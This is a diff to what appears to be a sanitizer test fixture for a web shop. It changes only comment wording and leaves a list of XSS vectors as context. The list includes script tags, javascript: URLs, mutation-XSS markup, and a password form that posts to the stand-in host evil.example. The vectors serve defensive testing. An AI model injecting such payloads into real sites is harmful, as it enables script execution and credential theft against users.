@@ -1,8 +1,11 @@
-/** Runs when one of the vectors does; `ran()` of the page that the markup is put into. */
+/** The script that vectors try to run: it calls `ran()` of the page that contains the markup. */
 const run = 'parent.ran(1)'
 const away = 'https://evil.example/x'
 
-/** Markup that has once got past a sanitiser, or runs, loads, frames, clobbers or covers something where it isn't cleaned. */
+/**
+ * Markup that once bypassed a sanitizer, or that runs, loads, frames, clobbers or covers something where it isn't
+ * sanitized.
+ */
 export const vectors: readonly string[] = [
   // Plain.
   `<script>${run}</script>`,
@@ -44,7 +47,7 @@ export const vectors: readonly string[] = [
   `<embed src="data:image/svg+xml,<svg onload=${run}>">`,
   `<applet code=x archive=${away}></applet>`,
   `<portal src="${away}"></portal>`,
-  // Addresses.
+  // URLs.
   `<a href="javascript:${run}">a</a>`,
   `<a href="JaVaScRiPt:${run}">a</a>`,
   `<a href=" javascript:${run}">a</a>`,
@@ -76,7 +79,7 @@ export const vectors: readonly string[] = [
   `<link rel=stylesheet href="${away}.css"><link rel=import href="${away}"><link rel=prefetch href="${away}">`,
   `<meta http-equiv=refresh content="0;url=${away}">`,
   `<meta http-equiv="Content-Security-Policy" content="img-src *">`,
-  // Pictures that tell, and paths that lead out of the store.
+  // Tracking images, and paths that leave the store.
   `<img src="${away}.png">`,
   `<img src="//evil.example/x.png">`,
   `<img srcset="${away}.png 2x" src="/files/a.webp">`,
@@ -110,7 +113,7 @@ export const vectors: readonly string[] = [
   `<form action="${away}"><input name=password type=password><button>Đăng nhập</button></form>`,
   `<button formaction="javascript:${run}">a</button><input type=submit formaction="${away}">`,
   `<isindex action="javascript:${run}" type=submit>`,
-  // Meaning that changes when it is read again.
+  // Markup whose meaning changes when it is parsed again (mutation XSS).
   `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
   `<svg><style><img src=x onerror=${run}></style></svg>`,
@@ -169,7 +172,7 @@ export const vectors: readonly string[] = [
   `<p data-x="<img src=x onerror=${run}>" aria-label="x" itemscope itemtype="${away}">a</p>`,
   `<ol start="1 onmouseover=${run}"><li value="x">a</li></ol>`,
   `<td colspan="99999999" rowspan="-1">a</td><img src="/files/a.webp" width="1e9" height="100%">`,
-  // What should stay.
+  // Markup to keep.
   `<h2>Gốm <em>Bát Tràng</em></h2><p>Xem <a href="https://a.vn/?a=1&amp;b=2">đây</a> và <a href="/products">kia</a>.</p>`,
   `<table><tbody><tr><th colspan="2">a</th></tr><tr><td>b</td><td>c</td></tr></tbody></table>`,
   `<blockquote><ul><li>a<ol start="3"><li>b</li></ol></li></ul></blockquote><img src="/files/a.webp" alt="Bình" width="9">`,
